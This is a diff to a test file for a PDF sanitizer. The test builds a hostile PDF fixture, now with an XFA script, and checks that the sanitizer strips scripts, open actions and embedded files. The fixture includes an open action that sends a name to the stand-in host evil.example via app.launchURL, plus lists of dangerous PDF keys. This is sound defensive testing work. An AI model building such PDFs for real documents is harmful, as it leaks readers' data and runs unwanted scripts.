@@ -126,6 +126,9 @@ async function hostilePdf(): Promise<Uint8Array> {
   doc.catalog.set(PDFName.of('OpenAction'), js(`app.launchURL("https://evil.example/?u=${NAME}")`));
   doc.catalog.set(PDFName.of('AA'), context.obj({ WC: js('app.alert(1)') }));
   page.node.set(PDFName.of('AA'), context.obj({ O: js('app.alert(2)') }));
+  // An XFA form: its template carries scripts that Acrobat runs.
+  const xfa = context.register(context.stream(strToU8(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">app.alert("${NAME}")</script></template></xdp:xdp>`)));
+  doc.catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: xfa }));
   const fileSpec = context.obj({
     Type: 'Filespec',
     F: PDFString.of('foto-budi.txt'),
@@ -173,12 +176,12 @@ async function pdfTexts(bytes: Uint8Array): Promise<{ names: Set<string>; text: 
 test('PDF: the photo inside loses EXIF/GPS; scripts, open actions, embedded files and form actions go; links stay', async () => {
   const input = await hostilePdf();
   const before = await pdfTexts(input);
-  for (const name of ['JavaScript', 'OpenAction', 'EmbeddedFiles', 'SubmitForm', 'Launch', 'GoToR', 'AA', 'EF']) assert.ok(before.names.has(name), `the attack PDF has ${name}`);
+  for (const name of ['JavaScript', 'OpenAction', 'EmbeddedFiles', 'SubmitForm', 'Launch', 'GoToR', 'AA', 'EF', 'XFA']) assert.ok(before.names.has(name), `the attack PDF has ${name}`);
   assert.ok(before.text.includes(NAME));
 
   const output = await stripPdf(input);
   const after = await pdfTexts(output);
-  for (const name of ['JavaScript', 'JS', 'OpenAction', 'EmbeddedFiles', 'EmbeddedFile', 'SubmitForm', 'ImportData', 'Launch', 'GoToR', 'AA', 'EF', 'FS']) {
+  for (const name of ['JavaScript', 'JS', 'OpenAction', 'EmbeddedFiles', 'EmbeddedFile', 'SubmitForm', 'ImportData', 'Launch', 'GoToR', 'AA', 'EF', 'FS', 'XFA']) {
     assert.ok(!after.names.has(name), `/${name} is left in the PDF`);
   }
   const at = after.text.indexOf(NAME);
